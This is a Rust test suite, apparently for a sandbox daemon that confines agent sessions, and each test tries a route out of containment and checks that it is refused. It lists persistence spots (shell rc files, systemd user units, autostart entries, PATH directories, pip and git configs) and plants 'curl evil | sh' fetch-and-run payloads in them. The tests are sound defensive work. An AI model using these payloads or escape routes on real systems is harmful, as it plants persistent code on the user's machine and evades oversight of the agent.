    let dev = PathBuf::from(format!("/dev/rt-userdev-{}", uniq()));
    // SAFETY: mknod of a character device (1,3) as root.
    assert_eq!(
        unsafe {
            libc::mknod(
                cpath(&dev).as_ptr(),
                libc::S_IFCHR | 0o600,
                libc::makedev(1, 3),
            )
        },
        0
    );
    c.add(&dev);
    chown(&dev);
    let red = Red::start("dev");
    assert_eq!(
        outside(&[Op::Write(dev.clone()), Op::Read(dev.clone())]),
        vec![0, 0]
    );
    assert_eq!(
        red.attack(&[Op::Write(dev.clone()), Op::Read(dev.clone())]),
        vec![EACCES, EACCES],
        "the user's device node from a session"
    );
}

/// Writes the user's file in /dev/shm, a listed place (`containment.protect`): refused by
/// the root entry of /dev/shm (MAP_ROOTS, from `contain.rs` protect); without it the walk
/// meets no root and `verdict` allows.
#[test]
fn writes_the_users_file_in_dev_shm() {
    let mut c = Cleanup::default();
    let f = PathBuf::from(format!("/dev/shm/rt-app-{}", uniq()));
    c.add(&f);
    ufile(f.to_str().unwrap(), "state");
    let mut red = Red::start("shm");
    assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
    assert_eq!(
        red.attack(&[Op::Write(f.clone()), Op::Unlink(f.clone())]),
        vec![EACCES, EACCES]
    );
    // Without the root entry of /dev/shm the walk meets no root, and the owner gate still
    // refuses the user's file: two checks hold this route.
    red.enforcer
        .remove_root_id(ObjectId::of_path(Path::new("/dev/shm")).unwrap())
        .unwrap();
    assert_eq!(
        red.attack(&[Op::Write(f.clone())]),
        vec![EACCES],
        "the owner gate without the /dev/shm root"
    );
}

/// Writes the user's runtime directory (`/run/user/UID`, a listed place) when it exists as
/// the daemon starts: refused by its root entry (MAP_ROOTS via `place_records`).
#[test]
fn writes_the_users_runtime_dir_present_at_start() {
    let mut c = Cleanup::default();
    let run = PathBuf::from("/run/user/1000");
    assert!(!run.exists(), "another test left /run/user/1000");
    c.add(&run);
    let f = ufile("/run/user/1000/app/state.json", "{}");
    let mut red = Red::start("runuser");
    assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
    assert_eq!(
        red.attack(&[Op::Write(f.clone()), Op::Create(run.join("app/new"))]),
        vec![EACCES, EACCES]
    );
    red.enforcer
        .remove_root_id(ObjectId::of_path(&run).unwrap())
        .unwrap();
    assert_eq!(
        red.attack(&[Op::Write(f.clone())]),
        vec![EACCES],
        "the owner gate without the /run/user/1000 root"
    );
}

/// Writes the user's runtime directory made after the session started (logind makes
/// `/run/user/UID` at the user's first login and removes it at the last logout; a long
/// agent session outlives both). `Containment::for_owner` keeps only the places that exist
/// when the owner's first session starts (`p.is_dir()`), and the places' roots are read at
/// session start (`place_records`), so a later one is no root.
#[test]
fn writes_the_users_runtime_dir_made_after_the_session_started() {
    let mut c = Cleanup::default();
    let run = PathBuf::from("/run/user/1000");
    assert!(!run.exists(), "another test left /run/user/1000");
    c.add(&run);
    let red = Red::start("runuser-late");
    std::fs::create_dir_all("/run/user").unwrap();
    let f = ufile("/run/user/1000/systemd/state", "x");
    std::fs::set_permissions(&run, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
    assert_eq!(
        red.attack(&[Op::Write(f.clone()), Op::Create(run.join("systemd/evil"))]),
        vec![EACCES, EACCES]
    );
}

// ---------------------------------------------------------------------------------------
// Never-grantable as a snapshot.
//
// Promise (README, never-grantable): "no vote, rule, approval or `pincer approve` grants"
// them; "no write, create or delete of shell startup files, autostart and `systemd
// --user` units". The kernel's never map holds (dev, ino) of the objects and (dir, name)
// entries that exist at session start (`NeverList::seed`, `symlink_metadata`: a symlink is
// the link, not its target), and `walk_up` sees them only on the path from the object
// actually reached. A route that needs a grant gets the narrowest one a twin or the user
// could plausibly give; the never list must hold against it.

/// Writes `~/.bashrc`, a symlink into the user's dotfiles repository, after the session
/// was granted write on that repository ("tidy my dotfiles"). The never entries are on the
/// link's inode and the name `.bashrc` in the home; the open follows the link and walks
/// from `~/dotfiles/bashrc`, which no never entry covers.
#[test]
fn writes_a_startup_file_through_its_symlink() {
    let mut c = Cleanup::default();
    let dots = udir(&home("dotfiles"));
    c.add(&dots);
    let target = ufile(&home("dotfiles/bashrc"), "alias ll='ls -l'\n");
    let link = PathBuf::from(home(".bashrc"));
    std::os::unix::fs::symlink(&target, &link).unwrap();
    chown(&link);
    c.add(&link);
    let mut red = Red::start("symrc");
    red.grant(
        &dots,
        Scope::Subtree,
        &[Access::Read, Access::List, Access::Write],
    );
    let r = red.gated(|| vec![append(&link, "curl evil | sh\n")]);
    assert_eq!(
        r,
        vec![EACCES],
        "appending to ~/.bashrc through its symlink"
    );
    assert!(
        !std::fs::read_to_string(&target).unwrap().contains("evil"),
        "the startup file was changed"
    );
}

/// Reads a private key through `~/.ssh`, a symlink to a directory in the user's dotfiles
/// (granted read: "look at my dotfiles"). The never entry is on the link, the walk goes
/// through `~/dotfiles/ssh`.
#[test]
fn reads_a_secret_through_a_symlinked_ssh_directory() {
    let mut c = Cleanup::default();
    let dots = udir(&home("dotfiles"));
    c.add(&dots);
    let key = ufile(
        &home("dotfiles/ssh/id_ed25519"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    );
    let link = PathBuf::from(home(".ssh"));
    std::os::unix::fs::symlink(dots.join("ssh"), &link).unwrap();
    chown(&link);
    c.add(&link);
    let mut red = Red::start("symssh");
    red.grant(&dots, Scope::Subtree, &[Access::Read, Access::List]);
    assert_eq!(
        red.gated(|| vec![read(&link.join("id_ed25519"))]),
        vec![EACCES],
        "reading ~/.ssh/id_ed25519 through the symlinked directory"
    );
    assert!(key.exists());
}

/// Moves `~/.config/systemd` (an ancestor of the never place `~/.config/systemd/user/**`)
/// aside and rebuilds the path in a directory the session made, then plants a user unit.
/// Granted: change `~/.config` ("clean up my config directory"). The never entries are the
/// `user` directory and the name `user` in the *old* `systemd`; the rename of `systemd`
/// is checked only for `delete` on it, and a directory the session made has no never entry.
#[test]
fn moves_an_ancestor_of_a_never_place_away_and_rebuilds_it() {
    let mut c = Cleanup::default();
    let config = PathBuf::from(home(".config"));
    let existed = config.exists();
    udir(&home(".config/systemd/user"));
    if existed {
        c.add(home(".config/systemd"));
        c.add(home(".config/systemd.old"));
    } else {
        c.add(&config);
    }
    let mut red = Red::start("ancestor");
    red.grant(
        &config,
        Scope::Subtree,
        &[Access::Read, Access::List, Access::Create, Access::Delete],
    );
    let sd = config.join("systemd");
    let unit = sd.join("user/evil.service");
    let r = red.gated(|| {
        vec![
            rename(&sd, &config.join("systemd.old")),
            mkdir(&sd),
            mkdir(&sd.join("user")),
            create(&unit, "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"),
        ]
    });
    assert!(!unit.exists(), "a user unit was planted: {r:?}");
    assert!(
        config.join("systemd/user").exists() && !config.join("systemd.old").exists(),
        "the never place was moved: {r:?}"
    );
}

/// Moves the never place `~/.config/systemd/user` itself aside (same grant on `~/.config`
/// as above): refused by the never entry on the `user` directory (`NeverList::seed`,
/// delete bit) that `inode_rename`'s `check_object(old, delete)` meets. The control for
/// the ancestor route above.
#[test]
fn moves_a_never_place_itself_away() {
    let mut c = Cleanup::default();
    let config = PathBuf::from(home(".config"));
    let existed = config.exists();
    udir(&home(".config/systemd/user"));
    c.add(if existed {
        PathBuf::from(home(".config/systemd"))
    } else {
        config.clone()
    });
    let mut red = Red::start("neverself");
    red.grant(
        &config,
        Scope::Subtree,
        &[Access::Read, Access::List, Access::Create, Access::Delete],
    );
    let user = config.join("systemd/user");
    let r = red.gated(|| vec![rename(&user, &config.join("systemd/user.old"))]);
    assert_eq!(r, vec![EACCES]);
    assert!(user.exists());
    let sd = config.join("systemd");
    red.enforcer
        .remove_never(ObjectId::of_path(&user).unwrap())
        .unwrap();
    red.enforcer
        .remove_never_name(
            ObjectId::of_path(&sd).unwrap(),
            std::ffi::OsStr::new("user"),
        )
        .unwrap();
    // The default list protects all of ~/.config/systemd: its entries go too.
    red.enforcer.remove_never(ObjectId::of_path(&sd).unwrap()).unwrap();
    red.enforcer
        .remove_never_name(ObjectId::of_path(&config).unwrap(), std::ffi::OsStr::new("systemd"))
        .unwrap();
    assert_eq!(
        red.gated(|| vec![rename(&user, &sd.join("user.old"))]),
        vec![0],
        "the never entries were the check"
    );
}

/// Plants a symlink at the missing never place `~/.config/autostart`, pointing into a
/// directory the session made: refused by the reserved name (`seed_literal`, create bit)
/// that `inode_symlink`'s `check_create` meets.
#[test]
fn symlinks_a_missing_never_place_to_its_own_directory() {
    let mut c = Cleanup::default();
    let config = PathBuf::from(home(".config"));
    if !config.exists() {
        c.add(&config);
    }
    udir(&home(".config"));
    let auto = config.join("autostart");
    assert!(!auto.exists());
    c.add(&auto);
    let mut red = Red::start("symnever");
    red.grant(&config, Scope::Exact, &[Access::List, Access::Create]);
    let scratch = red.scratch.clone();
    let r = red.gated(|| {
        vec![
            mkdir(&scratch.join("auto")),
            // SAFETY: symlink on valid C strings.
            rc(unsafe {
                libc::symlink(cpath(&scratch.join("auto")).as_ptr(), cpath(&auto).as_ptr())
            } as i64),
        ]
    });
    assert_eq!(r, vec![0, EACCES]);
    assert!(std::fs::symlink_metadata(&auto).is_err());
    red.enforcer
        .remove_never_name(
            ObjectId::of_path(&config).unwrap(),
            std::ffi::OsStr::new("autostart"),
        )
        .unwrap();
    // SAFETY: symlink on valid C strings.
    let r = red.gated(|| {
        vec![rc(unsafe {
            libc::symlink(cpath(&scratch.join("auto")).as_ptr(), cpath(&auto).as_ptr())
        } as i64)]
    });
    assert_eq!(r, vec![0], "the reserved name was the check");
}

/// Writes `~/.bashrc`, a symlink to the user's dotfiles kept outside the home
/// (`/srv/dotfiles/bashrc`): no grant needed at all. The never entries hold the link; the
/// open walks from the target, where no root and no never entry is.
#[test]
fn writes_a_startup_file_whose_symlink_target_is_outside_the_home() {
    let mut c = Cleanup::default();
    let base = PathBuf::from(format!("/srv/rt-dots-{}", uniq()));
    c.add(&base);
    let target = ufile(&format!("{}/bashrc", base.display()), "alias ll='ls -l'\n");
    let link = PathBuf::from(home(".bashrc"));
    assert!(
        std::fs::symlink_metadata(&link).is_err(),
        "another test left ~/.bashrc"
    );
    std::os::unix::fs::symlink(&target, &link).unwrap();
    chown(&link);
    c.add(&link);
    let red = Red::start("symrc-out");
    let r = red.gated(|| vec![append(&link, "curl evil | sh\n")]);
    assert_eq!(
        r,
        vec![EACCES],
        "appending to ~/.bashrc through its symlink out of the home"
    );
    assert!(!std::fs::read_to_string(&target).unwrap().contains("evil"));
}

/// Plants an autostart entry after the user made `~/.config` during the session (a desktop
/// app's first start). At session start `~/.config` was missing, so only its own name was
/// reserved in the home (`seed_literal`: the first missing ancestor, `NEVER_RESERVED`, with
/// a carry). Closed because the kernel gives a directory made under a reserved name, by
/// anyone, its template's names as it is made (`carry_reserved` in `vfs_mkdir`'s exit):
/// `autostart` in the new `~/.config` is a never place from its first moment. What is not
/// a never place below it can be made: the reserved name acts at its own level only.
/// Granted: create in `~/.config` ("write my app's config").
#[test]
fn plants_an_autostart_entry_under_a_config_directory_made_after_the_session_started() {
    let mut c = Cleanup::default();
    let config = PathBuf::from(home(".config"));
    assert!(
        !config.exists(),
        "precondition: no ~/.config in the VM's home"
    );
    c.add(&config);
    let mut red = Red::start("lateconfig");
    // The user (outside) makes ~/.config during the session.
    udir(config.to_str().unwrap());
    red.grant(&config, Scope::Exact, &[Access::List, Access::Create]);
    let auto = config.join("autostart");
    let entry = auto.join("evil.desktop");
    let r = red.gated(|| {
        vec![
            mkdir(&auto),
            create(&entry, "[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n"),
        ]
    });
    assert!(!entry.exists(), "an autostart entry was planted: {r:?}");
    // The app's own configuration beside it is made: nothing reserves it.
    assert_eq!(
        red.gated(|| vec![create(&config.join("app.toml"), "theme = 1\n")]),
        vec![0],
        "an ordinary file under the directory the user made"
    );
    // Without the name the new directory was given the same steps plant it: that name is
    // the check.
    let config_id = ObjectId::of_path(&config).unwrap();
    red.enforcer
        .remove_never_name(config_id, std::ffi::OsStr::new("autostart"))
        .unwrap();
    let r = red.gated(|| vec![mkdir(&auto), create(&entry, "[Desktop Entry]\n")]);
    assert_eq!(r, vec![0, 0], "the carried name was the check");
}

/// A toolchain's first run in a session on a fresh account: `~/go` does not exist and
/// `~/go/bin` is a never place (a folder on `PATH`). The session, granted create in the
/// home, makes `~/go` and its module cache there (the reserved name `go` may be made by
/// `mkdir`, and the new directory gets the name `bin` as it is made), but not `~/go/bin`:
/// neither by `mkdir`, nor as a file, nor by renaming a tree it prepared into place, nor by
/// making `~/go` again after moving the first one away.
#[test]
fn makes_a_toolchain_home_on_a_fresh_account_but_not_its_never_place() {
    let mut c = Cleanup::default();
    let go = PathBuf::from(home("go"));
    assert!(!go.exists(), "precondition: no ~/go in the VM's home");
    c.add(&go);
    let moved = PathBuf::from(home("go-old"));
    c.add(&moved);
    let work = udir(&home(&format!("work-{}", uniq())));
    c.add(&work);
    let mut red = Red::start("gohome");
    red.grant(Path::new(HOME), Scope::Exact, &[Access::List, Access::Create]);
    red.grant(&work, Scope::Exact, &[Access::List, Access::Create]);
    let bin = go.join("bin");
    let r = red.gated(|| {
        vec![
            mkdir(&go),
            mkdir(&go.join("pkg")),
            create(&go.join("pkg/cache.txt"), "module cache"),
            mkdir(&bin),
            create(&bin, "#!/bin/sh\n"),
            mkdir(&work.join("bin")),
            create(&work.join("bin/ls"), "#!/bin/sh\ncurl evil | sh\n"),
            rename(&work.join("bin"), &bin),
            rename(&go, &moved),
            mkdir(&go),
            mkdir(&bin),
        ]
    });
    assert_eq!(
        r,
        vec![0, 0, 0, EACCES, EACCES, 0, 0, EACCES, 0, 0, EACCES],
        "~/go and its cache are made; ~/go/bin is not, by any route"
    );
    assert!(!bin.exists() && !moved.join("bin").exists());
    assert!(moved.join("pkg/cache.txt").exists(), "the first ~/go, moved, kept its cache");
    // The name the new directory was given is the check: without it `bin` is made.
    red.enforcer
        .remove_never_name(ObjectId::of_path(&go).unwrap(), std::ffi::OsStr::new("bin"))
        .unwrap();
    assert_eq!(red.gated(|| vec![mkdir(&bin)]), vec![0], "the carried name was the check");
}

/// Renames a tree the session prepared (in a directory it made inside its workspace) into
/// the missing never place `~/.config/autostart`. Closed by the reserved name of the first
/// missing ancestor (`seed_literal` reserves (~/.config, "autostart") for create) checked
/// by `inode_rename`'s `check_create` on the new name.
#[test]
fn renames_a_prepared_tree_into_a_missing_never_place() {
    let mut c = Cleanup::default();
    let config = PathBuf::from(home(".config"));
    let existed = config.exists();
    udir(&home(".config"));
    if !existed {
        c.add(&config);
    }
    let auto = config.join("autostart");
    assert!(!auto.exists());
    c.add(&auto);
    // The session's project area in the home, where it may make directories (its own).
    let work = udir(&home(&format!("work-{}", uniq())));
    c.add(&work);
    let mut red = Red::start("renamein");
    red.grant(&config, Scope::Exact, &[Access::List, Access::Create]);
    red.grant(&work, Scope::Exact, &[Access::List, Access::Create]);
    let build = work.join("build");
    let r = red.gated(|| {
        vec![
            mkdir(&build),
            mkdir(&build.join("autostart")),
            create(
                &build.join("autostart/evil.desktop"),
                "[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n",
            ),
            rename(&build.join("autostart"), &auto),
        ]
    });
    // The scratch directory (under /tmp) is another filesystem than the home (EXDEV); a
    // directory the session made in the home is the route.
    assert_eq!(r[..3], [0, 0, 0], "the session prepares its tree");
    assert_eq!(
        r[3], EACCES,
        "the tree was renamed into ~/.config/autostart"
    );
    assert!(!auto.exists());
    red.enforcer
        .remove_never_name(
            ObjectId::of_path(&config).unwrap(),
            std::ffi::OsStr::new("autostart"),
        )
        .unwrap();
    assert_eq!(
        red.gated(|| vec![rename(&build.join("autostart"), &auto)]),
        vec![0],
        "the reserved name was the check"
    );
}

/// One never-list route: `setup` prepares the user's files (paths to clean up), `grant`
/// gives the session the narrowest grant the route needs, the attack writes or creates
/// `target` with `data`; the safe outcome is EACCES and the target unchanged.
fn name_route(
    name: &str,
    dirs: &[&str],
    files: &[(&str, &str)],
    grant: Option<(&str, Scope, &[Access])>,
    target: &str,
    create_it: bool,
) {
    let mut c = Cleanup::default();
    for d in dirs {
        let p = PathBuf::from(home(d));
        if !p.exists() {
            // The topmost missing one goes at the end.
            let mut top = p.clone();
            while let Some(parent) = top.parent() {
                if parent.exists() {
                    break;
                }
                top = parent.to_path_buf();
            }
            c.add(top);
            udir(p.to_str().unwrap());
        }
    }
    for (f, content) in files {
        let p = PathBuf::from(home(f));
        if !p.exists() {
            c.add(&p);
        }
        ufile(p.to_str().unwrap(), content);
    }
    let target = PathBuf::from(home(target));
    c.add(&target);
    let before = std::fs::read(&target).ok();
    let mut red = Red::start(name);
    if let Some((p, scope, access)) = grant {
        red.grant(Path::new(&home(p)), scope, access);
    }
    let payload = "curl evil | sh\n";
    let r = red.gated(|| {
        vec![if create_it {
            create(&target, payload)
        } else {
            append(&target, payload)
        }]
    });
    let after = std::fs::read(&target).ok();
    assert_eq!(r, vec![EACCES], "{} from a session", target.display());
    assert_eq!(before, after, "{} was changed", target.display());
}

/// `~/.bash_aliases`, sourced by Debian's and Ubuntu's default `~/.bashrc`: not in the
/// default never list (`contain.rs` startup list ends at the shells' own files). Granted:
/// write on that one file (an approval for "add an alias").
#[test]
fn appends_to_bash_aliases() {
    name_route(
        "aliases",
        &[],
        &[(".bash_aliases", "alias g=git\n")],
        Some((".bash_aliases", Scope::Exact, &[Access::Write])),
        ".bash_aliases",
        false,
    );
}

/// `~/.bashrc.d/` (sourced by Fedora's `~/.bashrc`): not listed. Granted: create in it.
#[test]
fn creates_a_file_in_bashrc_d() {
    name_route(
        "bashrcd",
        &[".bashrc.d"],
        &[],
        Some((".bashrc.d", Scope::Exact, &[Access::Create])),
        ".bashrc.d/zz-evil.sh",
        true,
    );
}

/// `~/.local/share/systemd/user/` (systemd's user unit path under XDG_DATA_HOME): only
/// `~/.config/systemd/user/**` is listed. Granted: create in that directory.
#[test]
fn creates_a_user_unit_under_local_share_systemd() {
    name_route(
        "sdshare",
        &[".local/share/systemd/user"],
        &[],
        Some((".local/share/systemd/user", Scope::Exact, &[Access::Create])),
        ".local/share/systemd/user/evil.service",
        true,
    );
}

/// `~/.config/systemd/user.control/` (a unit directory systemd reads too): the pattern
/// `~/.config/systemd/user/**` does not cover it. Granted: create in it.
#[test]
fn creates_a_user_unit_under_systemd_user_control() {
    name_route(
        "sdctl",
        &[".config/systemd/user.control"],
        &[],
        Some((
            ".config/systemd/user.control",
            Scope::Exact,
            &[Access::Create],
        )),
        ".config/systemd/user.control/evil.service",
        true,
    );
}

/// `~/.config/autostart-scripts/` (KDE Plasma runs every script in it at login): only
/// `~/.config/autostart/**` is listed. Granted: create in it.
#[test]
fn creates_a_login_script_in_autostart_scripts() {
    name_route(
        "autoscripts",
        &[".config/autostart-scripts"],
        &[],
        Some((".config/autostart-scripts", Scope::Exact, &[Access::Create])),
        ".config/autostart-scripts/evil.sh",
        true,
    );
}

/// `~/.local/share/dbus-1/services/` (D-Bus session services: started on first call by
/// name): not listed. Granted: create in it.
#[test]
fn creates_a_dbus_session_service() {
    name_route(
        "dbus",
        &[".local/share/dbus-1/services"],
        &[],
        Some((
            ".local/share/dbus-1/services",
            Scope::Exact,
            &[Access::Create],
        )),
        ".local/share/dbus-1/services/org.freedesktop.Notifications.service",
        true,
    );
}

/// `~/bin/` (Debian's `~/.profile` puts it first in PATH): a command named like a real one
/// runs instead of it. Not listed. Granted: create in `~/bin` ("add a helper script").
#[test]
fn plants_a_command_in_home_bin_on_path() {
    name_route(
        "homebin",
        &["bin"],
        &[],
        Some(("bin", Scope::Exact, &[Access::Create])),
        "bin/git",
        true,
    );
}

/// `~/.local/bin/` (also first in PATH via `~/.profile`): a read-only open path, not
/// never-grantable. Granted: create in it ("install the tool for me").
#[test]
fn plants_a_command_in_local_bin_on_path() {
    name_route(
        "localbin",
        &[".local/bin"],
        &[],
        Some((".local/bin", Scope::Exact, &[Access::Create])),
        ".local/bin/ls",
        true,
    );
}

/// `~/.cargo/env`, sourced by `~/.profile` and `~/.bashrc` after a rustup install, lies
/// inside the read-write open path `~/.cargo` (`contain.rs` open_paths): no grant needed.
#[test]
fn appends_to_cargo_env_under_the_open_path() {
    name_route(
        "cargoenv",
        &[".cargo"],
        &[(".cargo/env", "export PATH=\"$HOME/.cargo/bin:$PATH\"\n")],
        None,
        ".cargo/env",
        false,
    );
}

/// `~/.cargo/config.toml` (`build.rustc-wrapper`, `target.*.runner`: code the user's next
/// `cargo build` runs) inside the read-write open path `~/.cargo`: no grant needed.
#[test]
fn creates_cargo_config_under_the_open_path() {
    name_route(
        "cargocfg",
        &[".cargo"],
        &[],
        None,
        ".cargo/config.toml",
        true,
    );
}

/// `~/.cargo/bin/` is on PATH (rustup's `~/.cargo/env`) and inside the read-write open path
/// `~/.cargo`: a command planted there runs as the user. (In this VM `~/.cargo/bin` is a
/// read-only bind of the host's; then `~/.cargo/env.fish`, which fish sources from there,
/// shows the same carve-out.)
#[test]
fn plants_a_command_in_a_directory_under_the_cargo_open_path() {
    let probe = PathBuf::from(home(".cargo/bin/.rt-probe"));
    let writable = std::fs::write(&probe, "").is_ok();
    let _ = std::fs::remove_file(&probe);
    if writable {
        name_route(
            "cargobin",
            &[".cargo/bin"],
            &[],
            None,
            ".cargo/bin/cargo-fmt-evil",
            true,
        );
    } else {
        name_route(
            "cargobin",
            &[".cargo"],
            &[],
            None,
            ".cargo/env.fish",
            true,
        );
    }
}

/// `~/.config/pip/pip.conf` (`index-url`: where the user's next `pip install` fetches code
/// from): not listed (only `~/.pypirc`). Granted: create in `~/.config/pip`.
#[test]
fn creates_pip_conf() {
    name_route(
        "pipconf",
        &[".config/pip"],
        &[],
        Some((".config/pip", Scope::Exact, &[Access::Create])),
        ".config/pip/pip.conf",
        true,
    );
}

/// `~/.gitconfig` (`core.pager`, `core.fsmonitor`, `alias.*` run commands in every
/// repository): a read-only open path, but not never-grantable (only `**/.git/config`).
/// Granted: write on it ("set my git email").
#[test]
fn appends_to_the_global_gitconfig() {
    name_route(
        "gitconfig",
        &[],
        &[(".gitconfig", "[user]\n\tname = W\n")],
        Some((".gitconfig", Scope::Exact, &[Access::Write])),
        ".gitconfig",
        false,
    );
}

/// `~/.vimrc` (runs commands when the user opens vim): not listed. Granted: write on it.
#[test]
fn appends_to_vimrc() {
    name_route(
        "vimrc",
        &[],
        &[(".vimrc", "set nu\n")],
        Some((".vimrc", Scope::Exact, &[Access::Write])),
        ".vimrc",
        false,
    );
}

/// `~/.config/nvim/init.lua` (runs when the user opens neovim): not listed. Granted: write.
#[test]
fn appends_to_neovim_init() {
    name_route(
        "nvim",
        &[".config/nvim"],
        &[(".config/nvim/init.lua", "vim.o.number = true\n")],
        Some((".config/nvim/init.lua", Scope::Exact, &[Access::Write])),
        ".config/nvim/init.lua",
        false,
    );
}

/// `~/.emacs.d/init.el`: not listed. Granted: write on it.
#[test]
fn appends_to_emacs_init() {
    name_route(
        "emacs",
        &[".emacs.d"],
        &[(".emacs.d/init.el", ";; mine\n")],
        Some((".emacs.d/init.el", Scope::Exact, &[Access::Write])),
        ".emacs.d/init.el",
        false,
    );
}

/// `usercustomize.py` in the user's site-packages (every `python3` the user starts imports
/// it): under the read-only open path `~/.local/lib`, not listed. Granted: create there
/// ("pip install --user").
#[test]
fn plants_python_usercustomize() {
    let sp = ".local/lib/python3/site-packages";
    name_route(
        "pyuc",
        &[sp],
        &[],
        Some((sp, Scope::Exact, &[Access::Create])),
        &format!("{sp}/usercustomize.py"),
        true,
    );
}

/// A listed startup file with an exact write grant on it (an approval the never list must
/// override): refused by the never entry (`NeverList::seed` object + name, `walk_up`
/// never bits). The control for the name routes above.
#[test]
fn appends_to_bashrc_despite_a_grant() {
    let mut c = Cleanup::default();
    let rc_file = PathBuf::from(home(".bashrc"));
    assert!(!rc_file.exists(), "another test left ~/.bashrc");
    c.add(&rc_file);
    ufile(rc_file.to_str().unwrap(), "# mine\n");
    let mut red = Red::start("bashrc");
    red.grant(&rc_file, Scope::Exact, &[Access::Write]);
    assert_eq!(
        red.gated(|| vec![append(&rc_file, "curl evil | sh\n")]),
        vec![EACCES],
        "~/.bashrc despite a write grant"
    );
    // Without its never entries (object and name) the grant opens it: they are the check.
    let home_id = ObjectId::of_path(Path::new(HOME)).unwrap();
    red.enforcer
        .remove_never(ObjectId::of_path(&rc_file).unwrap())
        .unwrap();
    red.enforcer
        .remove_never_name(home_id, std::ffi::OsStr::new(".bashrc"))
        .unwrap();
    assert_eq!(
        red.gated(|| vec![append(&rc_file, "# ablation\n")]),
        vec![0],
        "the never entries were the check"
    );
}

// ---------------------------------------------------------------------------------------
// Metadata and notifications.

/// `stat`/`statx` of a never-grantable secret (size and mtime of `~/.ssh/id_ed25519` tell
/// when a key was made or rotated). Promise: "no access at all to `~/.ssh`". No
/// getattr hook exists (only `file_open` and inode change hooks).
#[test]
fn stats_a_never_grantable_secret() {
    let mut c = Cleanup::default();
    let existed = Path::new(&home(".ssh")).exists();
    let key = ufile(&home(".ssh/id_ed25519"), "KEY");
    c.add(if existed {
        key.clone()
    } else {
        PathBuf::from(home(".ssh"))
    });
    let red = Red::start("stat");
    assert_eq!(ungated(|| vec![stat(&key), statx(&key)]), vec![0, 0]);
    assert_eq!(
        red.gated(|| vec![stat(&key), statx(&key)]),
        vec![EACCES, EACCES],
        "stat and statx of ~/.ssh/id_ed25519"
    );
}

/// An inotify watch on `~/.ssh` (learns every use and change of the keys). No
/// `inode_notify`/`path_notify` hook.
#[test]
fn watches_the_ssh_directory_with_inotify() {
    let mut c = Cleanup::default();
    let existed = Path::new(&home(".ssh")).exists();
    let key = ufile(&home(".ssh/id_ed25519"), "KEY");
    c.add(if existed {
        key.clone()
    } else {
        PathBuf::from(home(".ssh"))
    });
    let red = Red::start("inotify-ssh");
    let ssh = PathBuf::from(home(".ssh"));
    assert_eq!(ungated(|| vec![inotify(&ssh)]), vec![0]);
    assert_eq!(
        red.gated(|| vec![inotify(&ssh), inotify(&key)]),
        vec![EACCES, EACCES],
        "inotify on ~/.ssh and the key"
    );
}

/// An inotify watch on a protected file the session was not granted (the user's notes in
/// the home: when the user edits them). Same missing hook.
#[test]
fn watches_a_protected_file_with_inotify() {
    let mut c = Cleanup::default();
    let notes = udir(&home("notes"));
    c.add(&notes);
    let f = ufile(&home("notes/diary.md"), "dear diary\n");
    let red = Red::start("inotify-notes");
    assert_eq!(
        red.gated(|| vec![inotify(&f), inotify(&notes)]),
        vec![EACCES, EACCES]
    );
}

/// An unprivileged fanotify inode mark on the user's key (FAN_REPORT_FID, Linux 5.13+).
#[test]
fn watches_a_secret_with_fanotify() {
    let mut c = Cleanup::default();
    let existed = Path::new(&home(".ssh")).exists();
    let key = ufile(&home(".ssh/id_ed25519"), "KEY");
    c.add(if existed {
        key.clone()
    } else {
        PathBuf::from(home(".ssh"))
    });
    let red = Red::start("fanotify");
    let out = ungated(|| vec![fanotify(&key)]);
    let inside = red.gated(|| vec![fanotify(&key)]);
    assert_eq!(
        out,
        vec![0],
        "precondition: an unprivileged fanotify mark works outside"
    );
    assert_eq!(inside, vec![EACCES], "fanotify mark on ~/.ssh/id_ed25519");
}

/// FS_IOC_SETFLAGS on a file the session may only read. Promise: "mode, owner, times and
/// xattrs of a protected object need write". The flag ioctls go through `vfs_fileattr_set`
/// with no `inode_setattr`; `check_ioctl` looks only at TIOCSTI/TIOCLINUX.
#[test]
fn sets_inode_flags_of_a_read_only_file() {
    let mut red = Red::start("setflags");
    let f = red.ws.join("src/main.rs");
    red.grant(&f, Scope::Exact, &[Access::Read]);
    let before = nodump(&f);
    assert_eq!(
        ungated(|| vec![setflags(&f), setflags(&f)]),
        vec![0, 0],
        "precondition: the filesystem takes the flag"
    );
    let r = red.gated(|| vec![setflags(&f)]);
    assert_eq!(r, vec![EACCES], "FS_IOC_SETFLAGS on a read-granted file");
    assert_eq!(nodump(&f), before, "the flag changed");
}

/// FS_IOC_FSSETXATTR on a file the session may only read (same gap).
#[test]
fn sets_fsxattr_flags_of_a_read_only_file() {
    let mut red = Red::start("fsxattr");
    let f = red.ws.join("src/main.rs");
    red.grant(&f, Scope::Exact, &[Access::Read]);
    let before = nodump(&f);
    assert_eq!(
        ungated(|| vec![fssetxattr(&f), fssetxattr(&f)]),
        vec![0, 0],
        "precondition"
    );
    let r = red.gated(|| vec![fssetxattr(&f)]);
    assert_eq!(r, vec![EACCES], "FS_IOC_FSSETXATTR on a read-granted file");
    assert_eq!(nodump(&f), before, "the flag changed");
}

// ---------------------------------------------------------------------------------------
// The user's services over TCP.
//
// Promise (README): TCP to this host ("127.0.0.0/8, ::1, 0.0.0.0, ::, their v4-mapped
// forms ... and the host's interface addresses") reaches "only ports the session bound
// itself ... and listed ports"; "a port the user's own service holds cannot be taken while
// it runs". `inet_dest_check` keys a session's ports by (session, port, proto) only;
// `MAP_HOST_ADDRS` is filled when the daemon starts (`apply_reach`).

/// The user's service on 0.0.0.0:P, reached through an address the host gained after the
/// daemon started (a VPN, DHCP renew, a container bridge): the daemon's `AddressWatch`
/// reads the local routes again (`refresh_local_routes`) on the change.
#[test]
fn connects_to_the_users_service_via_an_address_added_after_the_daemon_started() {
    let red = Red::start("lateaddr");
    let p = port();
    let _svc = Service::start(IpAddr::V4(Ipv4Addr::UNSPECIFIED), p, SECRET);
    let a = Ipv4Addr::new(198, 18, 77, 7);
    let _addr = HostAddress::add(a);
    assert_eq!(ungated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]), vec![0]);
    assert_eq!(
        red.gated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]),
        vec![EACCES],
        "the user's service via {a}"
    );
}

